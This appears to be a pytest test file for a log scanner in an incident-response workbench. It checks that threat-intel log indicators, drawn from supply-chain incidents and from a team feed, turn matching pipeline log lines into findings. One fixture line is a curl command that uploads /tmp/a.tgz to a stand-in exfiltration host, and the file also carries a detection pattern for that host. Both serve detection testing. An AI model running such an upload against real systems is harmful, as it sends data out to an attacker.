"""The incident intel's log indicators in the log scan: a pipeline log line matching a shipped indicator (its
``example`` in python_incidents.yaml) becomes a ``log_pattern`` finding naming the intel entry and its source; the
indicator's ``counter_example`` does not; the same through ``workbench scan-logs --json``; a team feed's log
indicator with ``--intel DIR`` (and the ``intel`` option of an investigation)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from workbench.cli import cli
from workbench.data.python_incidents import Indicator, builtin_intel
from workbench.investigation import Investigation
from workbench.records import Finding

TEAM_ID = "team-exfil-2026"
TEAM_RULE = f"{TEAM_ID}.upload-host"
TEAM_SOURCE = f"https://intel.example.org/advisories/{TEAM_ID}"
TEAM_FEED = f"""version: 1
entries:
  - id: {TEAM_ID}
    title: Team advisory on a build-time uploader
    source: {TEAM_SOURCE}
    indicators:
      - name: upload-host
        kind: log
        title: Upload to the team-reported exfiltration host
        severity: high
        pattern: '\\bdrop\\.exfil-example\\.net\\b'
        description: The uploader posts archives to drop.exfil-example.net.
        example: ["POST https://drop.exfil-example.net/u 200"]
        counter_example: ["POST https://pypi.org/legacy/ 200"]
"""
TEAM_LINE = "2026-11-03T10:16:00.0000000Z curl -X POST -T /tmp/a.tgz https://drop.exfil-example.net/u"


def indicator(entry_id: str, name: str) -> Indicator:
    entry = builtin_intel().get(entry_id)
    assert entry is not None
    return next(i for i in entry.indicators if i.name == name)


COMMIT = indicator("tj-actions-changed-files-2025", "malicious-commit")
MINER = indicator("ultralytics-2024", "miner-host")
SHIPPED = [COMMIT, MINER]


def log_text(lines: list[str]) -> str:
    """A GitHub Actions style job log around the given lines."""
    head = ["2026-11-03T10:15:01.0000000Z ##[group]Run tj-actions/changed-files@v45",
            "2026-11-03T10:15:02.0000000Z Syncing repository: acme/project"]  # fmt: skip
    body = [f"2026-11-03T10:15:{10 + n:02d}.0000000Z {line}" for n, line in enumerate(lines)]
    return "\n".join([*head, *body, "2026-11-03T10:15:59.0000000Z ##[endgroup]"]) + "\n"


@pytest.fixture(scope="module")
def logs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A case: logs/pipeline.log with the shipped examples, logs/benign.log with their counter-examples."""
    root = tmp_path_factory.mktemp("intel-logs") / "case"
    (root / "logs").mkdir(parents=True)
    (root / "logs" / "pipeline.log").write_text(log_text([i.rule.examples_match[0] for i in SHIPPED]))
    (root / "logs" / "benign.log").write_text(log_text([i.rule.examples_no_match[0] for i in SHIPPED]))
    (root / "logs" / "team.log").write_text(log_text([TEAM_LINE.split("Z ", 1)[1]]))
    (root / "case.yaml").write_text('incident_id: "INC-LOG-1"\ndetection_time: "2026-11-04T00:00:00Z"\n')
    return root


@pytest.fixture(scope="module")
def team_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("team-intel")
    (folder / "team.yaml").write_text(TEAM_FEED)
    return folder


@pytest.fixture(scope="module")
def inv(logs: Path, team_dir: Path) -> Investigation:
    return Investigation.open(logs, logs.parent / "out", parameters={"intel": [str(team_dir)]}, write=False)


def by_rule(findings: list[Finding], rule_id: str, path: str) -> list[Finding]:
    return [f for f in findings if f.evidence.get("rule_id") == rule_id and f.evidence.get("path") == path]


@pytest.mark.parametrize("ind", SHIPPED, ids=lambda i: i.id)
def test_shipped_indicator_names_entry_and_source(inv: Investigation, ind: Indicator) -> None:
    assert inv.errors == {}
    entry_id = ind.id.rsplit(".", 1)[0]
    source = builtin_intel().get(entry_id).source  # type: ignore[union-attr]
    (f,) = by_rule(inv.results["logs"].findings, ind.id, "logs/pipeline.log")
    assert f.category == "log_pattern" and f.severity is ind.rule.severity
    assert (f.evidence["intel"], f.evidence["source"]) == (entry_id, source)
    assert entry_id in f.detail and source in f.detail
    assert f.evidence["count"] == 1
    # the counter-example line matches nothing of the indicator
    assert by_rule(inv.results["logs"].findings, ind.id, "logs/benign.log") == []


def test_plain_rules_carry_no_intel_fields(inv: Investigation) -> None:
    intel_ids = {e.id for e in builtin_intel()} | {TEAM_ID}
    plain = [f for f in inv.results["logs"].findings if f.evidence["rule_id"].rsplit(".", 1)[0] not in intel_ids]
    assert plain  # the shipped log rules see the same lines (the curl upload, the action download)
    assert all("intel" not in f.evidence and "source" not in f.evidence for f in plain)


def test_team_log_indicator_through_the_intel_option(inv: Investigation) -> None:
    (f,) = by_rule(inv.results["logs"].findings, TEAM_RULE, "logs/team.log")
    assert (f.evidence["intel"], f.evidence["source"]) == (TEAM_ID, TEAM_SOURCE)
    assert TEAM_ID in f.detail


def _scan(*args: str) -> dict:
    result = CliRunner().invoke(cli, ["scan-logs", *args, "--json"])
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_scan_logs_json_shows_the_intel(logs: Path) -> None:
    doc = _scan(str(logs / "logs" / "pipeline.log"))
    hits = {f["evidence"]["rule_id"]: f for f in doc["findings"] if f["evidence"].get("intel")}
    assert set(hits) >= {COMMIT.id, MINER.id}
    commit = hits[COMMIT.id]
    assert commit["category"] == "log_pattern"
    assert commit["evidence"]["intel"] == "tj-actions-changed-files-2025"
    assert commit["evidence"]["source"] == builtin_intel().get("tj-actions-changed-files-2025").source  # type: ignore[union-attr]
    assert COMMIT.id in {m["rule_id"] for m in doc["matches"]}
    benign = _scan(str(logs / "logs" / "benign.log"))
    assert not {f["evidence"]["rule_id"] for f in benign["findings"]} & {COMMIT.id, MINER.id}


def test_scan_logs_team_feed(logs: Path, team_dir: Path) -> None:
    target = str(logs / "logs" / "team.log")
    assert not [f for f in _scan(target)["findings"] if f["evidence"]["rule_id"] == TEAM_RULE]
    doc = _scan(target, "--intel", str(team_dir))
    (f,) = [f for f in doc["findings"] if f["evidence"]["rule_id"] == TEAM_RULE]
    assert (f["evidence"]["intel"], f["evidence"]["source"]) == (TEAM_ID, TEAM_SOURCE)
    assert TEAM_ID in f["detail"]
    # the shipped indicators stay on with a team feed
    both = _scan(str(logs / "logs" / "pipeline.log"), "--intel", str(team_dir))
    assert COMMIT.id in {f["evidence"]["rule_id"] for f in both["findings"]}


def test_scan_logs_bad_team_feed_exits_2(logs: Path, tmp_path: Path) -> None:
    (tmp_path / "broken.yaml").write_text("version: 1\nentries: [{id: x}]\n")
    result = CliRunner().invoke(cli, ["scan-logs", str(logs / "logs" / "pipeline.log"), "--intel", str(tmp_path)])
    assert result.exit_code == 2
    assert "broken.yaml" in result.output
